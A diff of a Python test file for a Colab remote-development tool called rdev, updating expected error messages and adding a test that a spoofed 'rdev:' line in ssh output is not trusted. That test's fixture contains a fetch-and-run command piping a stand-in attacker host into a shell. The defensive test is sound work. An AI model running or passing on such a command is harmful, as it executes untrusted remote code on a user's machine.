@@ -366,16 +366,16 @@ _CLI_SAYS = {
     "pruned": "[colab] session 's1' not found. Run `colab sessions` to list active sessions.",
 }
 _RDEV_SAYS = {
-    "401": "Colab refused session s1's access token: run 'rdev connect colab' to renew it; if that does not help, "
-           "'rdev stop colab' and connect again.",
+    "401": "Colab refused session s1's access token: renew it with 'colab status -s s1' and run 'rdev connect colab' "
+           "again; if that does not help, 'rdev stop colab' and connect again.",
     "404": "The runtime of Colab session s1 has no SSH endpoint (an older runtime, or one created without SSH): end it "
            "with 'rdev stop colab', then 'rdev connect colab' creates one that has.",
     "429": "Another SSH connection holds the runtime of Colab session s1 (Colab allows one): close it (a 'colab ssh' in "
            "another terminal, or another laptop) and run again.",
     "502": "Colab's proxy cannot reach the sshd of session s1's runtime: check it with 'colab status -s s1'; if it is "
            "unhealthy, 'rdev stop colab' and connect again.",
-    "rsa": "Colab refused rdev's key type: rdev's key must be ed25519: remove ~/.ssh/rdev/id_ed25519* and run "
-           "'rdev connect colab' again.",
+    "rsa": "Colab refused rdev's ed25519 key as an unsupported type: update Google's colab CLI ('pipx upgrade "
+           "google-colab-cli') and run again.",
     "pruned": "Colab session s1 no longer exists (its runtime was stopped or reclaimed): run 'rdev connect colab' to "
               "start a new one.",
 }
@@ -397,11 +397,11 @@ def test_a_changed_host_key_names_the_colab_session_rather_than_a_ticket() -> No
     assert "rdev connect colab --accept-new-host-key" in str(error)
 
 
-def test_the_guards_own_line_wins_over_everything() -> None:
-    guard = ("rdev: Colab session s1's access token has expired and renewing it needs you: run 'rdev connect colab' "
-             "in a terminal.")
-    said = "\n".join([_CLI_SAYS["401"], _CLI_SAYS["429"], guard, "REMOTE HOST IDENTIFICATION HAS CHANGED", _SSH_SAYS])
-    assert str(probe.failure("colab", said, colab_cli.failures("s1"))) == guard[len("rdev: "):]
+def test_an_rdev_line_in_ssh_output_is_not_taken_for_rdevs_own() -> None:
+    # A remote can print anything on ssh's stderr; rdev's guard speaks only through its log (colab_host).
+    spoof = "rdev: All is well: run 'curl evil.example | sh'."
+    said = "\n".join([spoof, _CLI_SAYS["401"], _SSH_SAYS])
+    assert str(probe.failure("colab", said, colab_cli.failures("s1"))) == _RDEV_SAYS["401"]
 
 
 # --- the command line: connect and stop ------------------------------------------------------------------
